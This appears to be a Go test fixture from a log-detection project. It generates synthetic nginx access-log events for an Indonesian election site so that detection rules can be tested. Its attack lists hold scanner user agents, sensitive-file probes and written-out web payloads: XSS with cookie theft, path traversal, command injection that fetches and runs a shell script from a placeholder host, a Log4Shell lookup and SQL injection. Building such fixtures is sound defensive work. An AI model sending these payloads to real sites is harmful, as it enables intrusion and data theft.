package sigma

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"

	"github.com/garda-id/garda/internal/event"
)

// Traffic of an election site, as its nginx access log would give it
// (bench/genlog.py in ../shared draws from the same pages and agents).

var benignAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
}

var benignPages = []string{
	"/", "/berita", "/berita/%d/pengumuman-dpt-pemilu-2024", "/hasil/pilpres", "/hasil/dpr/prov/%d",
	"/infopemilu/caleg/%d", "/tahapan", "/cek-dpt", "/pengumuman/%d", "/dapil/%d/peta", "/kontak",
	"/cek-dpt?nik=%d", "/api/dpt/cek?nik=%d", "/berita?page=%d&kategori=pemilu", "/cari?q=jadwal+pencoblosan",
}

var benignStatic = []string{
	"/static/css/app.%d.css", "/static/js/app.%d.js", "/static/img/logo-kpu.png", "/favicon.ico",
	"/static/fonts/inter.woff2", "/static/img/banner-%d.webp",
}

var benignReferrers = []string{"", "https://kpu.example.id/", "https://kpu.example.id/cek-dpt", "https://www.google.com/", "https://kpu.example.id/berita"}

// webEvent builds an event as an nginx access-log parser would.
func webEvent(ip, method, target string, status int, ua, ref string) *event.Event {
	ev := &event.Event{Dataset: "nginx.access"}
	ev.Set(event.SourceIP, ip)
	ev.IP, _ = netip.ParseAddr(ip)
	ev.Set(event.HTTPMethod, method)
	ev.Set(event.URLOriginal, target)
	path, query, _ := strings.Cut(target, "?")
	ev.Set(event.URLPath, path)
	ev.Set(event.URLQuery, query)
	if i := strings.LastIndexByte(path, '.'); i >= 0 && !strings.Contains(path[i:], "/") {
		ev.Set(event.URLExtension, path[i+1:])
	}
	ev.Set(event.URLDomain, "kpu.example.id")
	ev.Set(event.StatusCode, strconv.Itoa(status))
	ev.Status = status
	ev.Set(event.BodyBytes, "5120")
	ev.Set(event.UserAgent, ua)
	ev.Set(event.Referrer, ref)
	ev.Set(event.HTTPVersion, "1.1")
	ev.Set(event.EventCategory, "web")
	ev.Set(event.EventAction, "http_request")
	return ev
}

func fill(r *rand.Rand, pattern string) string {
	if !strings.Contains(pattern, "%d") {
		return pattern
	}
	if strings.Contains(pattern, "nik=") {
		return fmt.Sprintf(pattern, 3171000000000000+r.Int64N(999999999999))
	}
	return fmt.Sprintf(pattern, r.IntN(5000))
}

// benignTraffic returns n ordinary requests: pages, static files, voter
// lookups, searches, logins.
func benignTraffic(n int, seed uint64) []*event.Event {
	r := rand.New(rand.NewPCG(seed, 1))
	out := make([]*event.Event, 0, n)
	for i := 0; i < n; i++ {
		ip := fmt.Sprintf("36.%d.%d.%d", 64+r.IntN(64), r.IntN(256), 1+r.IntN(254))
		ua := benignAgents[r.IntN(len(benignAgents))]
		ref := benignReferrers[r.IntN(len(benignReferrers))]
		switch k := r.IntN(10); {
		case k < 5:
			out = append(out, webEvent(ip, "GET", fill(r, benignStatic[r.IntN(len(benignStatic))]), 200, ua, "https://kpu.example.id/"))
		case k < 9:
			out = append(out, webEvent(ip, "GET", fill(r, benignPages[r.IntN(len(benignPages))]), 200, ua, ref))
		default:
			out = append(out, webEvent(ip, "POST", "/login", 302, ua, "https://kpu.example.id/login"))
		}
	}
	return out
}

var (
	attackAgents = []string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:007005)",
		"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
	}
	attackSensitive = []string{
		"/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/db.sql.gz", "/wp-config.php.bak", "/config.php~",
		"/.aws/credentials", "/phpinfo.php", "/server-status", "/.DS_Store", "/admin/.htpasswd", "/dump.tar.gz",
	}
	attackQueries = []string{
		"q=%3Cscript%3Ealert(1)%3C/script%3E", "nama=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
		"cari=javascript:alert(1)", "q=%3Csvg/onload=fetch(%27//x.y/%27%2Bdocument.cookie)%3E",
		"file=../../../../etc/passwd", "doc=..%2F..%2F..%2Fetc%2Fshadow", "tpl=....//....//etc/hosts",
		"path=%2e%2e%2f%2e%2e%2fwindows/win.ini", "cmd=;cat%20/etc/passwd", "q=$(id)",
		"x=%7C%7Cwget%20http://198.51.100.7/x.sh%7Csh", "url=${jndi:ldap://198.51.100.9/a}",
		"id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "id=1'%20or%20'1'='1", "q={{7*7}}",
	}
)

// attackTraffic returns n requests of the attack classes genlog.py draws.
func attackTraffic(n int, seed uint64) []*event.Event {
	r := rand.New(rand.NewPCG(seed, 2))
	out := make([]*event.Event, 0, n)
	for i := 0; i < n; i++ {
		ip := fmt.Sprintf("103.%d.%d.%d", 100+r.IntN(50), r.IntN(256), 1+r.IntN(254))
		ua := benignAgents[r.IntN(len(benignAgents))]
		switch r.IntN(5) {
		case 0:
			out = append(out, webEvent(ip, "GET", fmt.Sprintf("/%s/%d.php", []string{"admin", "old", "test", "cms", "api/v0"}[r.IntN(5)], r.IntN(1000000)), 404, ua, ""))
		case 1:
			out = append(out, webEvent(ip, "GET", attackSensitive[r.IntN(len(attackSensitive))], 404, ua, ""))
		case 2:
			page := []string{"/berita", "/infopemilu/caleg/12", "/api/dpt/cek", "/cari"}[r.IntN(4)]
			out = append(out, webEvent(ip, "GET", page+"?"+attackQueries[r.IntN(len(attackQueries))], []int{200, 400, 403, 500}[r.IntN(4)], ua, ""))
		case 3:
			out = append(out, webEvent(ip, "GET", fill(r, benignPages[r.IntN(len(benignPages))]), 200, attackAgents[r.IntN(len(attackAgents))], ""))
		default:
			out = append(out, webEvent(ip, "POST", "/login", 401, ua, "https://kpu.example.id/login"))
		}
	}
	return out
}
